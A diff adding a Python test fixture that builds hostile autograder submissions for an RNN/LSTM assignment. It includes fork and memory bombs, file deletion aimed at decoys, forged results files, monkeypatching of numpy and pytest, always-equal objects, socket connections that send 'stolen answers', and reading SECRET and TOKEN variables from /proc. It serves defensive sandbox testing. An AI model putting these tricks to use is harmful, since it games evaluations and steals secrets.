@@ -1,0 +1,235 @@
+"""The hostile corpus: one submission per threat of issue 4, built from solutions/ plus one twist.
+
+Each submission is the reference solutions (always current: read from ``solutions/rnn_lstm`` when
+built, never copied here by hand) with a few lines appended to one module: code that runs at
+import, or a redefinition of ``clip_grad_norm`` / ``hidden_grad_norms`` (the two functions of
+``gradient_flow.py``, which no other module imports, so a twist there cannot spill over).
+
+``lost`` names the graded functions whose points the twist must cost; every other function must
+keep all its points. ``kept_kinds`` are the kinds of test (autograder/rubric.toml) that a twist
+does not touch, e.g. a function that returns NaN of the right type still modifies no input. Twists that attack the machine print ``BREACH ...`` when an attack works, so
+a grading output that contains "BREACH" is a hole. Destructive twists only ever target a decoy
+copy of solutions/ and the "other student" submission made for the test, never the real
+repository, so a hole is reported without damage. ``bwrap_only`` twists are not run in process mode.
+
+Placeholders in twists (``string.Template``): ``$repo``, ``$port`` (a listener of the test on
+127.0.0.1), ``$decoy``, ``$other`` (another student's submission), ``$results`` (the grader's
+results path), ``$tag`` (unique per run).
+"""
+from __future__ import annotations
+
+import shutil
+import string
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Dict, Tuple
+
+GF = "gradient_flow.py"
+MODULES = ("rnn_layers.py", "lstm_layers.py", "deep_layers.py", "gradient_flow.py")
+BOTH_GF = ("hidden_grad_norms", "clip_grad_norm")
+CLIP = ("clip_grad_norm",)
+
+
+@dataclass(frozen=True)
+class Hostile:
+    threat: str  # the category of issue 4
+    module: str
+    twist: str
+    lost: Tuple[str, ...] = ()  # functions whose tests must all fail...
+    kept_kinds: Tuple[str, ...] = ()  # ...except tests of these kinds (rubric "kind"), which the twist leaves intact
+    # Withstood only where files, network and other processes are hidden and processes are
+    # limited (bwrap). process mode does not hide files, and root ignores RLIMIT_NPROC there.
+    bwrap_only: bool = False
+    symlink_to: str = ""  # the module is a symbolic link to this path instead (a Template)
+    secret_text: str = ""  # text of the link's target that must never appear in the results
+
+
+CORPUS: Dict[str, Hostile] = {
+    "exit_at_import": Hostile("sys.exit at import", GF, "import sys\nsys.exit(0)\n", BOTH_GF),
+    "os_exit_at_import": Hostile("os._exit at import", GF, "import os\nos._exit(0)\n", BOTH_GF),
+    "exit_in_call": Hostile("sys.exit in a call", GF,
+                            "def clip_grad_norm(grads, max_norm):\n    import sys\n    sys.exit(0)\n", CLIP),
+    "os_exit_in_call": Hostile("os._exit in a call", GF,
+                               "def clip_grad_norm(grads, max_norm):\n    import os\n    os._exit(3)\n", CLIP),
+    "infinite_loop_in_call": Hostile("infinite loop in a call", GF,
+                                     "def clip_grad_norm(grads, max_norm):\n    while True:\n        pass\n", CLIP),
+    "infinite_loop_at_import": Hostile("infinite loop at import", GF, "while True:\n    pass\n", BOTH_GF),
+    "memory_bomb": Hostile("memory bomb", GF, (
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    hog = []\n"
+        "    while True:\n"
+        "        hog.append(np.ones(2**24))  # 128 MiB each, touched\n"
+    ), CLIP),
+    "fork_bomb": Hostile("fork bomb", GF, (
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    import os, time\n"
+        "    while True:\n"
+        "        try:\n"
+        "            os.fork()\n"
+        "        except OSError:\n"
+        "            time.sleep(0.2)\n"
+    ), CLIP, bwrap_only=True),
+    "output_flood": Hostile("megabytes of output", GF, (
+        "import sys\n"
+        "_reference_clip = clip_grad_norm\n"
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    sys.stdout.write('spam ' * 2**20)\n"
+        "    sys.stderr.write('more spam ' * 2**19)\n"
+        "    return _reference_clip(grads, max_norm)\n"
+    )),
+    "read_reference": Hostile("reading the reference, hidden tests or other submissions from disk", GF, (
+        "import os\n"
+        "_guesses = ['$repo/solutions/rnn_lstm/gradient_flow.py', '$other/gradient_flow.py',\n"
+        "            '/autograder/source/solutions/rnn_lstm/gradient_flow.py', '../solutions/rnn_lstm/gradient_flow.py']\n"
+        "for _root in ('/', '/tmp', '/home', '/root', '/work', '/autograder'):\n"
+        "    for _path, _dirs, _files in os.walk(_root):\n"
+        "        if _path.count('/') > 5 or _path.startswith(('/proc', '/sys', '/usr', '/sandbox')):\n"
+        "            _dirs[:] = []\n"
+        "        if 'gradient_flow.py' in _files and not _path.startswith('/submission'):\n"
+        "            _guesses.append(os.path.join(_path, 'gradient_flow.py'))\n"
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    guesses = list(_guesses)\n"
+        "    for path in guesses:\n"
+        "        try:\n"
+        "            source = open(path).read()\n"
+        "        except OSError:\n"
+        "            continue\n"
+        "        print('BREACH read', path)\n"
+        "        scope = {'__name__': 'stolen'}\n"
+        "        exec(compile(source, path, 'exec'), scope)\n"
+        "        return scope['clip_grad_norm'](grads, max_norm)\n"
+        "    raise RuntimeError('found no reference to copy')\n"
+    ), CLIP, bwrap_only=True),
+    "forge_results": Hostile("writing a forged results file", GF, (
+        "import json, os\n"
+        "_forged = json.dumps({'score': 1000, 'tests': []})\n"
+        "for _path in ('$results', '/tmp/forged-$tag.json', '$repo/forged-$tag.json', 'results.json',\n"
+        "              '/autograder/results/results.json', '/submission/results.json'):\n"
+        "    try:\n"
+        "        with open(_path, 'w') as _handle:\n"
+        "            _handle.write(_forged)\n"
+        "        if not _path.startswith('/tmp/'):  # the sandbox's /tmp is private: the test looks on the host\n"
+        "            print('BREACH wrote', _path)\n"
+        "    except OSError:\n"
+        "        pass\n"
+    ), bwrap_only=True),
+    "vandal": Hostile("deleting or changing files of the repository or of other submissions", GF, (
+        "import os, shutil\n"
+        "for _action, _path in (('rmtree', '$decoy/solutions'), ('remove', '$other/rnn_layers.py'),\n"
+        "                       ('truncate', '$decoy/rubric.toml'), ('append', '$repo/autograder/rubric.toml'),\n"
+        "                       ('append', '$repo/solutions/rnn_lstm/rnn_layers.py')):\n"
+        "    try:\n"
+        "        if _action == 'rmtree':\n"
+        "            shutil.rmtree(_path)\n"
+        "        elif _action == 'remove':\n"
+        "            os.remove(_path)\n"
+        "        elif _action == 'truncate':\n"
+        "            open(_path, 'w').close()\n"
+        "        else:\n"
+        "            open(_path, 'a').close()  # opening is proof enough; nothing is written\n"
+        "        print('BREACH', _action, _path)\n"
+        "    except OSError:\n"
+        "        pass\n"
+    ), bwrap_only=True),
+    "monkeypatch": Hostile("monkeypatching numpy, pytest, Hypothesis or the grader", GF, (
+        "import builtins, sys, types\n"
+        "np.allclose = lambda *a, **k: True\n"
+        "np.isclose = lambda *a, **k: True\n"
+        "np.array_equal = lambda *a, **k: True\n"
+        "np.testing.assert_allclose = lambda *a, **k: None\n"
+        "np.testing.assert_array_equal = lambda *a, **k: None\n"
+        "for _name in ('pytest', 'hypothesis', 'autograder', 'autograder.checks', 'autograder.grade'):\n"
+        "    _fake = types.ModuleType(_name)\n"
+        "    _fake.__getattr__ = lambda attr: (lambda *a, **k: True)\n"
+        "    sys.modules[_name] = _fake\n"
+        "builtins.__dict__['grade'] = lambda *a, **k: 100\n"
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    return dict(grads), 0.0  # wrong whenever the norm is not 0, 'but every check says ok'\n"
+    ), CLIP, kept_kinds=("inplace",)),
+    "claims_equal": Hostile("arrays or objects that claim to equal anything", GF, (
+        "_reference_clip = clip_grad_norm\n"
+        "_reference_norms = hidden_grad_norms\n"
+        "class AlwaysEqual(float):\n"
+        "    def __eq__(self, other):\n"
+        "        return True\n"
+        "    __hash__ = float.__hash__\n"
+        "class LyingArray(np.ndarray):\n"
+        "    def __eq__(self, other):\n"
+        "        return np.ones(np.shape(other), dtype=bool)\n"
+        "    def __array_finalize__(self, obj):\n"
+        "        pass\n"
+        "class Anything:\n"
+        "    __eq__ = lambda self, other: True\n"
+        "    __array_priority__ = 1000\n"
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    clipped, total = _reference_clip(grads, max_norm)\n"
+        "    return {k: (v * 0 + 7).view(LyingArray) for k, v in clipped.items()}, AlwaysEqual(-1.0)\n"
+        "def hidden_grad_norms(*args, **kwargs):\n"
+        "    return Anything()\n"
+    ), BOTH_GF),
+    "network": Hostile("opening network connections", GF, (
+        "import socket\n"
+        "for _host, _port in (('127.0.0.1', $port), ('1.1.1.1', 80), ('pypi.org', 443)):\n"
+        "    try:\n"
+        "        with socket.create_connection((_host, _port), timeout=2) as _sock:\n"
+        "            _sock.sendall(b'stolen answers')\n"
+        "        print('BREACH connected', _host, _port)\n"
+        "    except OSError:\n"
+        "        pass\n"
+    ), bwrap_only=True),
+    "secrets": Hostile("reading the grader's environment (secrets)", GF, (
+        "import os\n"
+        "_found = {k: v for k, v in os.environ.items() if 'SECRET' in k or 'TOKEN' in k}\n"
+        "for _pid in os.listdir('/proc'):\n"
+        "    try:\n"
+        "        _env = open(f'/proc/{_pid}/environ', 'rb').read().split(b'\\0')\n"
+        "    except OSError:\n"
+        "        continue\n"
+        "    _found.update(dict(e.decode(errors='replace').split('=', 1) for e in _env if b'SECRET' in e and b'=' in e))\n"
+        "if _found:\n"
+        "    print('BREACH secrets', _found)\n"
+    ), bwrap_only=True),
+    "symlinked_module": Hostile(
+        "reading hidden files through a module that is a symbolic link", GF, "", BOTH_GF,
+        symlink_to="$repo/autograder/rubric.toml", secret_text="visibility ="),
+    "syntax_error": Hostile("a syntax error", GF, "def broken(:\n    pass\n", BOTH_GF),
+    "missing_function": Hostile("a missing function", GF, "del clip_grad_norm\n", CLIP),
+    "wrong_types_and_shapes": Hostile("wrong return types or shapes", GF, (
+        "_reference_norms = hidden_grad_norms\n"
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    return [list(grads.values())], 'small'\n"
+        "def hidden_grad_norms(*args, **kwargs):\n"
+        "    return np.append(_reference_norms(*args, **kwargs), 0.0)  # one norm too many\n"
+    ), BOTH_GF, kept_kinds=("invalid_cell",)),
+    "nan_and_inf": Hostile("NaN and inf", GF, (
+        "_reference_clip = clip_grad_norm\n"
+        "_reference_norms = hidden_grad_norms\n"
+        "def clip_grad_norm(grads, max_norm):\n"
+        "    clipped, total = _reference_clip(grads, max_norm)\n"
+        "    return {k: v + np.inf for k, v in clipped.items()}, float('inf')\n"
+        "def hidden_grad_norms(*args, **kwargs):\n"
+        "    return _reference_norms(*args, **kwargs) * np.nan\n"
+    ), BOTH_GF, kept_kinds=("inplace", "invalid_cell")),
+}
+
+
+def build(name: str, solutions: Path, target: Path, context: Dict[str, object]) -> Path:
+    """Write submission ``name`` into ``target`` (created): solutions/ plus the twist."""
+    hostile = CORPUS[name]
+    target.mkdir(parents=True)
+    for module in MODULES:
+        if module == hostile.module and hostile.symlink_to:
+            link = string.Template(hostile.symlink_to).substitute({k: str(v) for k, v in context.items()})
+            (target / module).symlink_to(link)
+            continue
+        text = (solutions / module).read_text(encoding="utf-8")
+        if module == hostile.module:
+            twist = string.Template(hostile.twist).substitute({k: str(v) for k, v in context.items()})
+            text = text.rstrip("\n") + f"\n\n\n# ---- hostile twist: {hostile.threat} ----\n" + twist
+        (target / module).write_text(text, encoding="utf-8")
+    return target
+
+
+def copy_tree(source: Path, target: Path) -> Path:
+    shutil.copytree(source, target)
+    return target
